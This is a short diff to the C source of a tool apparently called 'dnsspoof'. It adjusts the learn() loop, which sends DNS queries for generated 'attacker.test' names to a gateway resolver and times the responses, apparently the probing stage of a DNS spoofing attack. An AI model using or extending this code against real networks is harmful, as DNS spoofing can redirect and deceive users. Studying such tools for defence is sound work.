@@ -72,17 +72,20 @@ static void learn(struct in_addr self, struct in_addr gw, unsigned n)
 		perror("dnsspoof: learn: socket/bind");
 		exit(1);
 	}
-	for (i = 0; i < n; i++) {
+	for (i = 0; i <= n; i++) {
 		uint8_t q[PKT_MAX], buf[PKT_MAX];
 		char name[64];
 		struct pollfd pfd = { .fd = srv, .events = POLLIN };
 		size_t len;
 
-		snprintf(name, sizeof(name), "learn%u-%ld.attacker.test", i, (long)getpid());
-		len = dnsquery_build(q, sizeof(q), (uint16_t)i, 0, name, 1);
-		if (!len || sendto(cli, q, len, 0, (struct sockaddr *)&ga, sizeof(ga)) < 0)
-			continue;
-		while (poll(&pfd, 1, 300) > 0) {
+		if (i < n) {
+			snprintf(name, sizeof(name), "learn%u-%ld.attacker.test", i, (long)getpid());
+			len = dnsquery_build(q, sizeof(q), (uint16_t)i, 0, name, 1);
+			if (len)
+				sendto(cli, q, len, 0, (struct sockaddr *)&ga, sizeof(ga));
+		}
+		/* 10 ms between queries, 500 ms for the last ones to come */
+		while (poll(&pfd, 1, i < n ? 10 : 500) > 0) {
 			struct sockaddr_in from;
 			socklen_t fl = sizeof(from);
 
